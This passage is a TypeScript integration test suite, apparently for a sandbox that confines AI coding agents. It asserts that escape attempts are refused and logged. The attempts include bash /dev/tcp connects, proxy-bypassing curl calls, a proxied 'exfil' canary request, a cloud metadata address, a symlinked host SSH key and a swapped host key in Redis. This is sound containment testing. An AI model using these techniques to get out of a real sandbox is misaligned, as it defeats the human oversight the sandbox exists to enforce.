import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer as createHttpServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
import { connect, createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import Docker from 'dockerode';
import { Redis } from 'ioredis';
import { DEFAULT_LIMITS, planLimits } from '../../src/plan/default-limits.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeTable, type EscapeRow } from '../../bench/escape.bench.js';
import type { LifecycleEvent } from '../../src/events/schema.js';
import { CAPABILITY_BURST } from '../../src/gateway/capability-routes.js';
import { DIRECT_RECORDS_PER_MINUTE } from '../../src/shared/netwatch-report.js';
import { buildBehindGateway, proxiedRequestRun, startBridgeListener } from '../support/build-egress.js';
import { execIn } from '../support/docker.js';
import { pidsProbe, PIDS } from '../support/pids-probe.js';
import { killSidecar } from '../support/sidecar-kill.js';
import { bigTranscriptOutcome, MAKE_BIG_TRANSCRIPT } from '../support/transcript-limit.js';
import { redisKeysHolding } from '../support/launch-secrets.js';
import { generateHostKeyPair, hostKeyId } from '../../src/shared/sealed-secrets.js';
import { identityFrom, PIN_DEFAULT_HOSTS, REPO, startHarness, type BottleHarness } from '../support/cli-harness.js';

/**
 * Escape attempts from INSIDE a real bottle (the built agent image, user
 * node, the worker's real networks and gateway), once per container runtime
 * (runsc and runc, forced with CLAUDE_BOTTLE_RUNTIME). Each attempt is
 * asserted refused; where the gateway is the one refusing, the refusal must
 * also be in the bottle's event log as `egress.denied` with the matching
 * host, port and reason. Attempts that never reach the gateway's proxy are
 * asserted refused at the network level, and recorded by whatever saw them:
 * the network watch in the agent's namespace for a direct connection
 * (`direct_connection`), the gateway's DNS server for a lookup (`dns_lookup`).
 *
 * Every attempt is also a row of the escape table (runtime, issue 12 finding
 * or "base", refused, recorded as an event, leaked), printed after the suite
 * and written to $ESCAPE_TABLE_FILE for `npm run bench escape`. A new case
 * records its row with `ledger.push` before asserting, so a failing case
 * still shows in the table.
 *
 * Every target is either a `.test` name the gateway refuses without
 * connecting, an IP literal the address policy refuses without connecting,
 * or an address this test owns: a TCP listener on this host that counts the
 * connections and bytes it gets, and an HTTP server that reflects every
 * request it gets (so a leaked secret would come back in the body), both
 * reached only through the gateway's pinned `allowed.test` / `gh.test` ->
 * host-gateway.
 */
const RUNTIMES = ['runsc', 'runc'] as const;
const ROUTE_HOST = 'gh.test';
const TOKEN_ENV = 'ESCAPE_SUITE_ROUTE_TOKEN';
const AGENT_CA = '/home/node/.claude-bottle/gateway-ca.pem';
/** Direct connects tried at once from the agent: each is a subshell, a timeout and a bash. */
const CONNECTS_AT_ONCE = 8;

const ledger: EscapeRow[] = [];
let listener: { server: Server; port: number; connections: number; bytes: number; sockets: Set<Socket> };
let reflector: {
  server: HttpServer;
  port: number;
  seen: Array<{ method: string; url: string; headers: IncomingHttpHeaders }>;
};

beforeAll(async () => {
  listener = await startCountingListener();
  reflector = await startReflector();
});

afterAll(async () => {
  if (listener) {
    for (const s of listener.sockets) s.destroy();
    await new Promise<void>((resolve) => listener.server.close(() => resolve()));
  }
  if (reflector) {
    reflector.server.closeAllConnections();
    await new Promise<void>((resolve) => reflector.server.close(() => resolve()));
  }
  if (ledger.length > 0) {
    console.log(`\nEscape table\n${escapeTable(ledger)}`);
    if (process.env.ESCAPE_TABLE_FILE) writeFileSync(process.env.ESCAPE_TABLE_FILE, JSON.stringify(ledger, null, 2));
  }
});

/** A TCP listener on all of this host's addresses that accepts, counts and never answers. */
async function startCountingListener(): Promise<typeof listener> {
  const state = { connections: 0, bytes: 0, sockets: new Set<Socket>() };
  const server = createServer((socket) => {
    state.connections += 1;
    state.sockets.add(socket);
    socket.on('data', (b: Buffer) => (state.bytes += b.length));
    socket.on('error', () => undefined);
    socket.on('close', () => state.sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  return Object.assign(state, { server, port: (server.address() as AddressInfo).port });
}

/** An HTTP server that answers every request with the request itself, headers included (as TRACE would). */
async function startReflector(): Promise<typeof reflector> {
  const seen: typeof reflector.seen = [];
  const server = createHttpServer((req, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    res.setHeader('content-type', 'text/plain');
    res.end(`reflected ${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n`);
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

interface Denial {
  host: string;
  port: number;
  method: string;
  reason: string;
}

/** Every file under `root` with its size and modification time, to prove a refused command wrote nothing. */
function fileTree(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      const stat = lstatSync(path);
      out.push(`${path.slice(root.length)} ${stat.isDirectory() ? 'dir' : stat.size} ${stat.mtimeMs}`);
      if (stat.isDirectory()) walk(path);
    }
  };
  walk(root);
  return out;
}

/** Whether `needle` is in any regular file under `root`. */
function anyFileHolds(root: string, needle: string): boolean {
  for (const name of readdirSync(root)) {
    const path = join(root, name);
    const stat = lstatSync(path);
    if (stat.isDirectory() && anyFileHolds(path, needle)) return true;
    if (stat.isFile() && readFileSync(path).includes(needle)) return true;
  }
  return false;
}

/**
 * The findings refused on the host before any container runs (the working folder, the build
 * context, a launch that fails before its gateway): one harness, runtime "host" in the table.
 */
describe('escape attempts refused on the host, before any bottle runs', () => {
  let h: BottleHarness;
  let scratch: string;

  beforeAll(async () => {
    h = await startHarness();
    scratch = mkdtempSync(join(tmpdir(), 'cb-escape-host-'));
  });

  afterAll(async () => {
    await h?.cleanup();
    if (scratch) rmSync(scratch, { recursive: true, force: true });
  }, 300_000);

  function row(finding: string, attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
    ledger.push({ runtime: 'host', finding, attempt, ...outcome });
  }

  /** Runs `bottle ARGS`; reports whether it was refused with exit 2 and one line, and whether anything was made. */
  async function refusedStart(args: string[], env: NodeJS.ProcessEnv = {}) {
    const redis = h.redis.connect();
    try {
      const before = { home: fileTree(h.home), keys: (await redis.keys('*')).sort() };
      const result = await h.cli(args, { env, timeoutMs: 60_000 });
      const lines = result.stderr.trim().split('\n');
      const refused = result.code === 2 && lines.length === 1 && result.stdout === '';
      const after = { home: fileTree(h.home), keys: (await redis.keys('*')).sort() };
      const created = JSON.stringify(after) !== JSON.stringify(before);
      return { result, line: lines[0], refused, created };
    } finally {
      redis.disconnect();
    }
  }

  it('finding 1: start refuses $HOME, the state folder and the manifest folder as the working folder', async () => {
    const manifest = h.writeManifest({
      bottles: [{ name: 'box', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS }],
      agents: [{ name: 'roamer', bottle: 'box', command: ['sleep', '600'] }],
    });
    const fakeHome = join(scratch, 'home');
    mkdirSync(fakeHome);
    const cases = [
      { attempt: 'working folder = $HOME', cwd: fakeHome, env: { HOME: fakeHome }, why: /it is your home folder/ },
      { attempt: 'working folder = CLAUDE_BOTTLE_HOME', cwd: h.home, env: {}, why: /claude-bottle state folder/ },
      { attempt: "working folder = the manifest's folder", cwd: dirname(manifest), env: {}, why: /holds the manifest/ },
    ];
    for (const c of cases) {
      const out = await refusedStart(['--manifest', manifest, 'start', 'roamer', '--detach', '--cwd', c.cwd], c.env);
      const containers = await h.docker.listContainers({
        all: true,
        filters: JSON.stringify({ name: ['cb-roamer-'] }),
      });
      const leaked = out.created || containers.length > 0;
      row('1', c.attempt, { refused: out.refused, recorded: null, leaked, note: 'exit 2 before anything exists' });
      expect(out.result.code, out.result.stderr).toBe(2);
      expect(out.refused, out.result.stderr).toBe(true);
      expect(out.line).toMatch(c.why);
      expect(out.line).toMatch(/run it from a project folder/);
      expect(leaked).toBe(false);
    }
  });

  it('issue 21 finding 1: start refuses the installation, a system folder and a folder on PATH', async () => {
    const manifest = h.writeManifest({
      bottles: [{ name: 'box', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS }],
      agents: [{ name: 'rewriter', bottle: 'box', command: ['sleep', '600'] }],
    });
    const bin = join(scratch, 'tools', 'bin');
    mkdirSync(bin, { recursive: true });
    const cases = [
      // The audit's reproduction: from there the agent rewrote dist/cli-bundle/bottle.cjs, run next by the host.
      {
        attempt: 'working folder = the installation (to rewrite the bundle)',
        cwd: REPO,
        env: {},
        why: /it is the claude-bottle installation this command runs from/,
      },
      { attempt: 'working folder = /etc', cwd: '/etc', env: {}, why: /it is the system folder/ },
      {
        attempt: 'working folder holding a folder on PATH',
        cwd: dirname(bin),
        env: { PATH: `${bin}:${process.env.PATH}` },
        why: /it holds a folder on your PATH/,
      },
    ];
    for (const c of cases) {
      const out = await refusedStart(['--manifest', manifest, 'start', 'rewriter', '--detach', '--cwd', c.cwd], c.env);
      const containers = await h.docker.listContainers({
        all: true,
        filters: JSON.stringify({ name: ['cb-rewriter-'] }),
      });
      const leaked = out.created || containers.length > 0;
      row('21.1', c.attempt, { refused: out.refused, recorded: null, leaked, note: 'exit 2 before anything exists' });
      expect(out.refused, out.result.stderr).toBe(true);
      expect(out.line).toMatch(c.why);
      expect(leaked).toBe(false);
    }
  });

  it('finding 2: a Dockerfile folder with a symlink to a host file is refused at build; no image is made', async () => {
    const hostSecret = `host-only-${randomBytes(12).toString('hex')}`;
    const target = join(scratch, 'id_ed25519');
    writeFileSync(target, `${hostSecret}\n`);
    const bottle = `linked${randomBytes(4).toString('hex')}`;
    const manifest = h.writeManifest(
      {
        bottles: [{ name: bottle, dockerfile: './linked/Dockerfile', extra_hosts: PIN_DEFAULT_HOSTS }],
        agents: [{ name: 'linker', bottle, command: ['sleep', '600'] }],
      },
      { 'linked/Dockerfile': 'FROM debian:bookworm-slim\nCOPY . /ctx/\n' },
    );
    symlinkSync(target, join(dirname(manifest), 'linked', 'key'));
    const project = mkdtempSync(join(scratch, 'project-'));
    const result = await h.cli(['--manifest', manifest, 'start', 'linker', '--detach', '--cwd', project]);
    // The first state-changing command starts the local worker (and says so) before the plan is made.
    const line = result.stderr.trim().split('\n').at(-1) ?? '';
    const images = await h.docker.listImages({ filters: JSON.stringify({ reference: [`claude-bottle/${bottle}`] }) });
    const containers = await h.docker.listContainers({ all: true, filters: JSON.stringify({ name: ['cb-linker-'] }) });
    const states = existsSync(join(h.home, 'state')) ? readdirSync(join(h.home, 'state')) : [];
    const made = images.length > 0 || containers.length > 0 || states.some((name) => name.startsWith('linker-'));
    const leaked = made || result.stdout.includes(hostSecret) || result.stderr.includes(hostSecret);
    row('2', 'Dockerfile folder with a symlink to a host file', {
      refused: result.code === 2 && /key is a symbolic link/.test(line),
      recorded: null,
      leaked,
      note: 'usage error (exit 2) before any build: no image, no bottle',
    });
    expect(result.code, result.stderr).toBe(2);
    expect(line).toMatch(/key is a symbolic link to .*id_ed25519, outside the context folder/);
    expect(result.stdout).toBe('');
    expect(images).toEqual([]);
    expect(leaked).toBe(false);
  });

  it('finding 13: a launch that fails before its gateway starts leaves no secrets on disk', async () => {
    const secret = `sk-escape-${randomBytes(16).toString('hex')}`;
    const manifest = h.writeManifest(
      {
        bottles: [
          {
            name: 'broken',
            dockerfile: './broken/Dockerfile',
            extra_hosts: PIN_DEFAULT_HOSTS,
            cred_proxy: {
              routes: [{ role: 'anthropic-base-url', token_env: 'CB_ESCAPE_LAUNCH_TOKEN', auth: 'api-key' }],
            },
          },
        ],
        agents: [{ name: 'broke', bottle: 'broken', command: ['sleep', '600'] }],
      },
      { 'broken/Dockerfile': 'FROM debian:bookworm-slim\nRUN echo cannot build && exit 3\n' },
    );
    const project = mkdtempSync(join(scratch, 'project-'));
    const started = await h.cli(['--manifest', manifest, 'start', 'broke', '--detach', '--cwd', project], {
      env: { CB_ESCAPE_LAUNCH_TOKEN: secret },
    });
    const identity = identityFrom(started);
    const events = await h.waitForEvent(identity, 'bottle.failed');
    const gatewayStarted = events.some((e) => e.type === 'gateway.started');
    const redis = new Redis({ path: h.redis.socket, maxRetriesPerRequest: null });
    let sealedLeft: boolean;
    let inRedis: string[];
    try {
      sealedLeft = (await redis.exists(`cb:sealed:${identity}`)) === 1;
      inRedis = await redisKeysHolding(redis, secret);
    } finally {
      redis.disconnect();
    }
    const leaked = sealedLeft || inRedis.length > 0 || anyFileHolds(h.home, secret);
    row('13', 'launch failing in its image build, with a route secret', {
      refused: !gatewayStarted && !sealedLeft,
      recorded: events.some((e) => e.type === 'bottle.failed'),
      leaked,
      note: 'event: bottle.failed; no sealed blob left, the secret in no Redis key and no file under the home',
    });
    expect(gatewayStarted).toBe(false);
    expect(existsSync(join(h.home, 'state', identity))).toBe(true);
    expect(sealedLeft).toBe(false);
    expect(leaked).toBe(false);
  }, 240_000);

  it('issue 21 finding 2: a host key swapped in Redis makes start refuse before sealing (exit 1)', async () => {
    const manifest = h.writeManifest(
      {
        bottles: [
          {
            name: 'routed',
            dockerfile: './routed/Dockerfile',
            extra_hosts: PIN_DEFAULT_HOSTS,
            cred_proxy: {
              routes: [{ role: 'anthropic-base-url', token_env: 'CB_ESCAPE_PIN_TOKEN', auth: 'api-key' }],
            },
          },
        ],
        agents: [{ name: 'pinned', bottle: 'routed', command: ['sleep', '600'] }],
      },
      // The first start only has to seal (which pins the host's key); its build fails at once.
      { 'routed/Dockerfile': 'FROM debian:bookworm-slim\nRUN exit 3\n' },
    );
    const project = mkdtempSync(join(scratch, 'project-'));
    const start = (secret: string) =>
      h.cli(['--manifest', manifest, 'start', 'pinned', '--detach', '--cwd', project], {
        env: { CB_ESCAPE_PIN_TOKEN: secret },
        timeoutMs: 120_000,
      });
    const first = await start(`sk-escape-${randomBytes(16).toString('hex')}`);
    const firstIdentity = identityFrom(first);
    const events = await h.waitForEvent(firstIdentity, 'bottle.failed');
    const host = (events[0] as Extract<LifecycleEvent, { type: 'bottle.start_requested' }>).data.plan.host;
    const redis = new Redis({ path: h.redis.socket, maxRetriesPerRequest: null });
    const keyName = `cb:host-key:${host}`;
    const genuine = (await redis.get(keyName))!;
    try {
      // The audit's reproduction: whoever can write to Redis publishes its own key for the host.
      const attacker = generateHostKeyPair().publicKey;
      await redis.set(keyName, attacker);
      const known = (await h.log.listBottles()).length;
      const secret = `sk-escape-${randomBytes(16).toString('hex')}`;
      const result = await start(secret);
      const lines = result.stderr.trim().split('\n');
      const line = lines.at(-1) ?? '';
      const sealed = await redis.keys('cb:sealed:*');
      const inRedis = await redisKeysHolding(redis, secret);
      const bottles = (await h.log.listBottles()).length;
      const leaked = sealed.length > 0 || inRedis.length > 0 || bottles !== known || anyFileHolds(h.home, secret);
      const refused = result.code === 1 && result.stdout === '' && line.includes(hostKeyId(attacker));
      row('21.2', 'host key swapped in Redis, then start with a credential route', {
        refused,
        recorded: null,
        leaked,
        note: 'exit 1 before sealing: one line with both key ids and `bottle hosts --trust`; no blob, no bottle',
      });
      expect(result.code, result.stderr).toBe(1);
      expect(result.stdout).toBe('');
      expect(line).toBe(
        `bottle: host ${host} now publishes key ${hostKeyId(attacker)}, not the pinned key ${hostKeyId(genuine)}: ` +
          "nothing was sealed; if the host's key really changed, accept it with " +
          `\`bottle hosts --trust ${host} --key ${hostKeyId(attacker)}\``,
      );
      expect(sealed).toEqual([]);
      expect(leaked).toBe(false);
    } finally {
      await redis.set(keyName, genuine);
      redis.disconnect();
    }
  }, 240_000);
});

/**
 * Finding 21.3: a Dockerfile's RUN (a bottle's own, or an approved change) used to run on Docker's default
 * build network. Builds do not run under the bottle's runtime (the daemon's builder runs RUN steps with runc),
 * so these rows are the builder's, once. The direct target is a listener of this test's own on Docker's
 * default bridge, where RUN steps used to run; the refused fetch names a `.invalid` host.
 */
describe('escape attempts from a Dockerfile RUN step are refused (finding 21.3)', () => {
  const docker = new Docker();
  const identity = `buildesc-${randomBytes(3).toString('hex')}`;
  let target: Awaited<ReturnType<typeof startBridgeListener>>;
  const tags: string[] = [];

  beforeAll(async () => {
    target = await startBridgeListener(docker, identity);
  });
  afterAll(async () => {
    for (const tag of tags)
      await docker
        .getImage(tag)
        .remove({ force: true })
        .catch(() => undefined);
    await target?.remove().catch(() => undefined);
  });

  function row(attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
    ledger.push({ runtime: 'build', finding: '21.3', attempt, ...outcome });
  }

  it('finding 21.3: a RUN that connects directly fails the build; nothing reaches the target', async () => {
    const attempt = await buildBehindGateway(
      docker,
      identity,
      `FROM debian:bookworm-slim\nRUN bash -c 'exec 3<>/dev/tcp/${target.ip}/${target.port} && echo canary >&3'\n`,
    );
    tags.push(attempt.tag);
    const reached = await target.accepted();
    row('RUN bash /dev/tcp to a container on the default bridge', {
      refused: !attempt.built && reached === 0,
      // Nothing sees a packet that has no route: the build's failure (effect.failed) is what the log shows.
      recorded: null,
      leaked: reached > 0,
      note: `build failed: ${attempt.built ? 'no' : 'yes'}; build resources left: ${attempt.leftovers.length}`,
    });
    expect(attempt.built).toBe(false);
    expect(reached).toBe(0);
    expect(attempt.leftovers).toEqual([]);
  }, 180_000);

  it('finding 21.3: a proxied canary to an unlisted host is refused and recorded, an allowed fetch too', async () => {
    const attempt = await buildBehindGateway(
      docker,
      identity,
      [
        'FROM debian:bookworm-slim',
        proxiedRequestRun('HEAD', 'http://deb.debian.org/debian/dists/bookworm/Release'),
        proxiedRequestRun('GET', 'http://canary.invalid/exfil?canary=21.3'),
        '',
      ].join('\n'),
    );
    tags.push(attempt.tag);
    const shown = attempt.events.map((e) => e.data as { decision: string; host: string; method: string });
    const refused = shown.some((d) => d.decision === 'denied' && d.host === 'canary.invalid');
    const fetched = shown.some((d) => d.decision === 'allowed' && d.host === 'deb.debian.org');
    row('RUN: proxied GET of an unlisted .invalid host (and a HEAD of the Debian mirror)', {
      refused,
      recorded: refused && fetched,
      leaked: shown.some((d) => d.decision === 'allowed' && d.host === 'canary.invalid'),
      note: `build.egress events: ${shown.map((d) => `${d.decision} ${d.method} ${d.host}`).join(', ')}`,
    });
    expect(attempt.error).toBeNull();
    expect(refused).toBe(true);
    expect(fetched).toBe(true);
    expect(attempt.leftovers).toEqual([]);
  }, 180_000);
});

describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are refused', (runtime) => {
  let h: BottleHarness;
  let identity: string;
  let agent: Docker.Container;
  let secret: string;
  let gatewayIp: string; // the gateway's address on the bottle's internal network
  let gatewayEgressIp: string; // the gateway's address on the egress network
  let internalBridgeGw: string; // this host, as seen from the internal bridge
  let egressBridgeGw: string; // this host, as seen from the egress bridge

  beforeAll(async () => {
    secret = `ghp_${randomBytes(16).toString('hex')}`;
    h = await startHarness({ env: { CLAUDE_BOTTLE_RUNTIME: runtime } });
    const manifest = h.writeManifest({
      bottles: [
        {
          name: 'jail',
          egress: {
            allow: [
              'allowed.test',
              `allowed.test:${listener.port}`,
              `allowed.test:${reflector.port}`,
              // Allowlisted on purpose: the address policy, not the allowlist, must refuse these.
              '169.254.169.254',
              '[::1]',
              '[64:ff9b::7f00:1]',
              '[2002:7f00:1::1]',
              '[fec0::1]',
            ],
          },
          cred_proxy: {
            routes: [
              {
                host: ROUTE_HOST,
                upstream: `http://${ROUTE_HOST}:${reflector.port}`,
                token_env: TOKEN_ENV,
                auth: 'bearer',
              },
            ],
          },
          extra_hosts: { ...PIN_DEFAULT_HOSTS, 'allowed.test': 'host-gateway', [ROUTE_HOST]: 'host-gateway' },
        },
      ],
      agents: [{ name: 'prisoner', bottle: 'jail', command: ['sleep', '1800'] }],
    });
    const started = await h.cli(['--manifest', manifest, 'start', 'prisoner', '--detach'], {
      env: { [TOKEN_ENV]: secret },
    });
    identity = identityFrom(started);
    // The probes below run through docker exec, beside the agent's command: they start once the watch records.
    const events = await h.waitForEvent(identity, 'netwatch.started');
    expect(events.find((e) => e.type === 'agent.started')!.data).toMatchObject({ runtime });
    gatewayIp = (events.find((e) => e.type === 'gateway.started')!.data as { ip: string }).ip;
    agent = h.docker.getContainer(`cb-${identity}-agent`);
    const gw = await h.docker.getContainer(`cb-${identity}-gateway`).inspect();
    gatewayEgressIp = gw.NetworkSettings.Networks[`cb-${identity}-egress`].IPAddress;
    const [internalNet, egressNet] = await Promise.all([
      h.docker.getNetwork(`cb-${identity}-internal`).inspect() as Promise<{
        IPAM: { Config: Array<{ Gateway?: string }> };
      }>,
      h.docker.getNetwork(`cb-${identity}-egress`).inspect() as Promise<{
        IPAM: { Config: Array<{ Gateway?: string }> };
      }>,
    ]);
    internalBridgeGw = internalNet.IPAM.Config[0].Gateway!;
    egressBridgeGw = egressNet.IPAM.Config[0].Gateway!;
  }, 240_000);

  afterAll(async () => {
    await h?.cleanup();
  });

  /** Runs a shell command in the agent container as its own user (node), with the agent's environment. */
  function inAgent(cmd: string): Promise<{ code: number; output: string }> {
    return execIn(agent, ['sh', '-c', cmd], { user: 'node' });
  }

  const proxy = () => `http://${gatewayIp}:3128`;
  const credentialPort = () => `http://${gatewayIp}:3129`;

  async function mark(): Promise<number> {
    return h.log.lastSeq(identity);
  }

  /** Waits for the gateway's refusal to arrive in the event log as egress.denied after `afterSeq`. */
  async function deniedEvent(afterSeq: number, match: Partial<Denial>, timeoutMs = 20_000): Promise<Denial> {
    const deadline = Date.now() + timeoutMs;
    let seen: LifecycleEvent[] = [];
    for (;;) {
      seen = await h.log.read(identity, afterSeq + 1);
      const hit = seen.find(
        (e) =>
          e.type === 'egress.denied' &&
          Object.entries(match).every(([k, v]) => (e.data as Record<string, unknown>)[k] === v),
      );
      if (hit) return hit.data as Denial;
      if (Date.now() > deadline) {
        const saw = JSON.stringify(seen.map((e) => [e.type, e.data]));
        throw new Error(`no egress.denied matching ${JSON.stringify(match)}; saw ${saw}`);
      }
      await new Promise((r) => setTimeout(r, 150));
    }
  }

  async function recordedAs(afterSeq: number, match: Partial<Denial>, timeoutMs?: number): Promise<boolean> {
    return deniedEvent(afterSeq, match, timeoutMs).then(
      () => true,
      () => false,
    );
  }

  function row(finding: string, attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
    ledger.push({ runtime, finding, attempt, ...outcome });
  }

  /** A TCP connect from this host: 'connected', or why not (ECONNREFUSED, timeout, ...). */
  function connectOutcome(host: string, port: number): Promise<string> {
    return new Promise((resolve) => {
      const socket = connect({ host, port, timeout: 5000 }, () => {
        socket.destroy();
        resolve('connected');
      });
      socket.on('timeout', () => {
        socket.destroy();
        resolve('timeout');
      });
      socket.on('error', (err: NodeJS.ErrnoException) => resolve(err.code ?? err.message));
    });
  }

  /**
   * Before a packet is sent to an address off the machine: the internal bridge holds no host address
   * (so the agent's default route has no next hop that answers) and the host drops anything forwarded
   * off the bridge.
   */
  async function expectNoWayOffTheInternalBridge(): Promise<void> {
    const net = (await h.docker.getNetwork(`cb-${identity}-internal`).inspect()) as {
      Id: string;
      IPAM: { Config: Array<{ Subnet: string }> };
    };
    const bridge = `br-${net.Id.slice(0, 12)}`;
    expect((networkInterfaces()[bridge] ?? []).filter((a) => a.family === 'IPv4')).toEqual([]);
    const rules = execFileSync('iptables', ['-S'], { encoding: 'utf8' });
    expect(rules).toContain(`! -d ${net.IPAM.Config[0].Subnet} -i ${bridge} -j DROP`);
  }

  /** A refusal at the network level: nothing answered and nothing arrived at this host's listener. */
  function networkRow(attempt: string, failed: boolean, connectionsBefore: number, recorded: boolean | null): void {
    row('base', attempt, { refused: failed, recorded, leaked: listener.connections !== connectionsBefore });
  }

  /** Whether the network watch's refusal of a connect to each of `hosts` (at `port`) is in the log after `afterSeq`. */
  async function directsRecorded(afterSeq: number, hosts: string[], port: number): Promise<boolean> {
    const deadline = Date.now() + 20_000;
    for (;;) {
      const seen = new Set(
        (await h.log.read(identity, afterSeq + 1))
          .filter((e) => e.type === 'egress.denied')
          .map((e) => e.data as Denial)
          .filter((d) => d.reason === 'direct_connection' && d.port === port)
          .map((d) => d.host),
      );
      if (hosts.every((host) => seen.has(host))) return true;
      if (Date.now() > deadline) return false;
      await new Promise((r) => setTimeout(r, 150));
    }
  }

  /**
   * One HTTP attempt that must be refused by the gateway with `status`, recorded as `match`,
   * with nothing reaching the reflecting upstream and the route secret nowhere in the answer.
   */
  async function gatewayAttempt(
    finding: string,
    attempt: string,
    curlArgs: string,
    status: number,
    match: Partial<Denial>,
  ): Promise<string> {
    const at = await mark();
    const before = reflector.seen.length;
    const r = await inAgent(`curl -sS --max-time 10 -w '\\n%{http_code}' ${curlArgs}`);
    const refused = new RegExp(`${status}$`).test(r.output.trim());
    const recorded = await recordedAs(at, match);
    const leaked = reflector.seen.length !== before || r.output.includes(secret);
    row(finding, attempt, { refused, recorded, leaked });
    expect(r.output, attempt).toMatch(new RegExp(`${status}$`));
    expect(recorded, `${attempt}: egress.denied ${JSON.stringify(match)}`).toBe(true);
    expect(leaked, attempt).toBe(false);
    return r.output;
  }

  describe('network level (the agent has no way out but the gateway)', () => {
    it('a direct connection through the internal bridge address is refused, recorded, and never arrives', async () => {
      const at = await mark();
      const before = listener.connections;
      const r = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${internalBridgeGw}:${listener.port}/`);
      // An address of the internal network that is not an egress hop is refused like any other.
      const recorded = await directsRecorded(at, [internalBridgeGw], listener.port);
      networkRow('direct TCP to the internal bridge address', r.code !== 0, before, recorded);
      expect(r.code, r.output).not.toBe(0);
      expect(listener.connections).toBe(before);
      expect(recorded).toBe(true);
    });

    it('a direct connection to the egress bridge address and to the gateway egress address fails', async () => {
      const at = await mark();
      const before = listener.connections;
      const host = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${egressBridgeGw}:${listener.port}/`);
      const gw = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${gatewayEgressIp}:3128/`);
      const recorded =
        (await directsRecorded(at, [egressBridgeGw], listener.port)) &&
        (await directsRecorded(at, [gatewayEgressIp], 3128));
      const failed = host.code !== 0 && gw.code !== 0;
      networkRow('direct TCP to the egress bridge / gateway egress address', failed, before, recorded);
      expect(host.code, host.output).not.toBe(0);
      expect(gw.code, gw.output).not.toBe(0);
      expect(listener.connections).toBe(before);
      expect(recorded).toBe(true);
    });

    it('outside DNS does not work in the agent (a name only the gateway knows does not resolve)', async () => {
      // The gateway resolves allowed.test (pinned); the agent's own resolver must not answer it, nor anything else.
      const r = await inAgent('timeout 8 getent hosts allowed.test; echo "rc=$?"');
      const refused = /rc=(2|124)/.test(r.output) && !/\d+\.\d+\.\d+\.\d+\s+allowed\.test/.test(r.output);
      row('base', 'DNS lookup from the agent', { refused, recorded: null, leaked: !refused });
      expect(r.output).toMatch(/rc=(2|124)/);
      expect(r.output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+allowed\.test/);
    });

    it('with the proxy variables ignored, an allowlisted name cannot be reached (no DNS, no route)', async () => {
      const before = listener.connections;
      const r = await inAgent(
        'env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy ' +
          `curl -sS --noproxy '*' --max-time 3 http://allowed.test:${listener.port}/`,
      );
      networkRow('allowlisted name without the proxy', r.code !== 0, before, null);
      expect(r.code, r.output).not.toBe(0);
      // curl's own resolver gets no answer: "Could not resolve host" or "Resolving timed out".
      expect(r.output).toMatch(/resolv/i);
      expect(listener.connections).toBe(before);
    });

    it("no address of the bottle's own networks but its hop is reachable directly; nothing arrives", async () => {
      expect((await agent.inspect()).HostConfig.Runtime).toBe(runtime);
      // Only addresses of the networks this bottle made: its unheld internal bridge address, this host on its
      // egress bridge, and the gateway's egress address. The watch refuses every other address the same way
      // (its rules are unit-tested), so nothing is aimed at an address outside the bottle.
      const targets = [internalBridgeGw, egressBridgeGw, gatewayEgressIp];
      const at = await mark();
      const before = listener.connections;
      // A bare TCP connect, a few side by side: "reached" is printed for any address that accepts.
      // A few, not all: under runsc the pids limit also counts the sandbox's own threads, and a
      // hundred processes at once exhaust the default limit and end the whole sandbox.
      const connect = (ip: string) =>
        `(timeout 3 bash -c 'exec 3<>/dev/tcp/${ip}/${listener.port}' && echo "reached ${ip}") &`;
      const batches: string[] = [];
      for (let i = 0; i < targets.length; i += CONNECTS_AT_ONCE) {
        const batch = targets.slice(i, i + CONNECTS_AT_ONCE).map(connect);
        batches.push(`${batch.join(' ')} wait;`);
      }
      const r = await inAgent(`${batches.join(' ')} echo done`);
      const recorded = await directsRecorded(at, targets, listener.port);
      const attempt = `direct TCP to the bottle's own network addresses (${targets.length})`;
      networkRow(attempt, !r.output.includes('reached'), before, recorded);
      expect(r.output, `${runtime}: ${r.output}`).not.toContain('reached');
      expect(r.output).toContain('done');
      expect(listener.connections).toBe(before);
      expect(recorded, 'each address refused by the network watch is in the log').toBe(true);
    });

    it('the agent has no IPv6 address on any network, and a direct IPv6-literal connection fails', async () => {
      const info = await agent.inspect();
      for (const [name, net] of Object.entries(info.NetworkSettings.Networks)) {
        expect(net.GlobalIPv6Address, name).toBe('');
      }
      const before = listener.connections;
      // The IPv4-mapped literal of this host's egress-bridge address: an address this test owns.
      const r = await inAgent(
        `curl -sS -6 --noproxy '*' --max-time 3 -g 'http://[::ffff:${egressBridgeGw}]:${listener.port}/'`,
      );
      // No IPv6 address, so no packet: the connect fails in the agent's own stack, with nothing to record.
      networkRow('direct IPv6-literal connection', r.code !== 0, before, null);
      expect(r.code, r.output).not.toBe(0);
      expect(listener.connections).toBe(before);
    });
  });

  describe('gateway (what it covered before issue 12)', () => {
    it('the metadata address via the proxy is refused by the address policy though allowlisted', async () => {
